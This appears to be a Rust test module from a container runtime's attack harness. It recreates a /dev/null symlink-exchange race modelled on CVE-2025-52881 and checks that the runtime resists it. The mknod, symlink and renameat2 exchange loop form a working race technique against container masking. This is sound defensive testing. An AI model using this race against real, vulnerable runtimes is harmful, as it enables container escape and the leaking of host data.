//! A cover that is exchanged at the right moment.
//!
//! As `mask-link`, but a look at the cover would find the device. The container's /dev is a volume that it shares with
//! another container, and that one exchanges /dev/null for a link, and back, without end. A runtime that looks at a name and
//! then uses the name is too late. (So it was with CVE-2025-52881 in runc, where writes meant for /proc went elsewhere, and
//! with CVE-2021-30465, where a volume's target was exchanged.) The arena plays the other container, and starts this one twenty times.
//!
//! It never worked: what is looked at is a descriptor, and it is that which covers. The link is not followed; where it stood in the
//! place of the device, the container does not start. (An ordinary user can make no device to exchange.)

use std::os::unix::fs::symlink;
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};

use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};
use nix::sys::stat::{Mode, SFlag, makedev, mknod};

use super::mask_link::{COVERS, SHOW, SHOWN};
use crate::arena::{Arena, Said};
use crate::inside::{Inside, Stopped};
use crate::{Attack, End};
use cooperage::told::errors::{Error, Result};

pub const ATTACK: Attack = Attack {
    name: "mask-race",
    title: "/dev/null exchanged for a link while the container starts (CVE-2025-52881)",
    won: "read the counters of the machine's devices through a cover",
    harmless: "the covers showed nothing, or the runtime refused",
    end: End::Never,
    because: "what is looked at is a descriptor, and it is that which covers",
    prepare,
    attack: |_: &Inside| -> std::result::Result<String, Stopped> { Ok(String::new()) },
    judge: |arena: &mut Arena, _: &Said| !arena.read("outside/shown").is_empty(),
};

const STEP: &str = "exchange the cover";
const STARTS: usize = 20;

fn prepare(arena: &mut Arena) -> Result<()> {
    if arena.chapter < COVERS {
        arena.nothing_to_attack("files are covered from chapter 9 on");
        return Ok(());
    }
    if arena.user {
        arena.nothing_to_attack("an ordinary user can make no device to exchange for the link");
        return Ok(());
    }
    let (null, link) = (arena.path("volume/null"), arena.path("volume/link"));
    mknod(&null, SFlag::S_IFCHR, Mode::from_bits_truncate(0o666), makedev(1, 3))
        .map_err(|errno| Error::call(STEP, "mknod()", errno))?;
    arena.give("volume/null", 0, 0o666)?;
    symlink(SHOWN, &link).map_err(|error| Error::io(STEP, &link, &error))?;
    let volume = format!("{}:/dev", arena.path("volume").display());

    let mut shown = String::new();
    let over = AtomicBool::new(false);
    let started = std::thread::scope(|scope| {
        scope.spawn(|| exchange(&null, &link, &over));
        let mut started = 0;
        for _ in 0..STARTS {
            if let Ok(Some(text)) = arena.try_script(&["--volume", &volume], SHOW) {
                started += 1;
                shown += &text;
            }
        }
        over.store(true, Ordering::Relaxed);
        started
    });
    arena.write("outside/shown", &shown)?;
    if started == 0 {
        return Err(Error::new(STEP, "the container was never started: it met the link every time"));
    }
    Ok(())
}

fn exchange(one: &Path, other: &Path, over: &AtomicBool) {
    while !over.load(Ordering::Relaxed) {
        let _ = renameat2(AT_FDCWD, one, AT_FDCWD, other, RenameFlags::RENAME_EXCHANGE);
    }
}
